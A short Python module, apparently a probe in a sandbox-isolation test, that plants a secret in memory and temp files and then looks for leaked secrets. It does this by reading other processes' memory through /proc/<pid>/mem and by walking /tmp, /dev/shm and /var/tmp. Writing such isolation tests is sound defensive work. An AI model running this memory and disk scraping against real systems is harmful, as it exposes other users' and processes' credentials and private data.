"""Reads what an earlier candidate had in its memory and its files, in memory that comes from a common ancestor too."""

import os
import re
from typing import Any

KEPT: list[str] = []


def attack(world: Any) -> list[str]:
    """Have a secret, everywhere."""
    secret = world.order["secret"]
    KEPT.append(secret * 1000)
    print(secret)
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "secret.txt"), "w") as file:
                file.write(secret)
        except OSError:
            continue
    return []


def collect(world: Any) -> list[str]:
    """Look for it in this process, in all the others, and on the disk."""
    found = set()
    for pid in ["self", *world.others()]:
        found.update(_memory(world, pid))
    for top in (".", "/tmp", "/dev/shm", "/var/tmp"):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        found.update(world.secrets(file.read(2**20)))
                except OSError:
                    continue
    return sorted(found)


def _memory(world: Any, pid: object) -> set[str]:
    found: set[str] = set()
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                matched = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if matched is None:
                    continue
                start, end = (int(part, 16) for part in matched.groups())
                try:
                    memory.seek(start)
                    found.update(world.secrets(memory.read(min(end - start, 2**26))))
                except OSError:
                    continue
    except OSError:
        pass
    return found
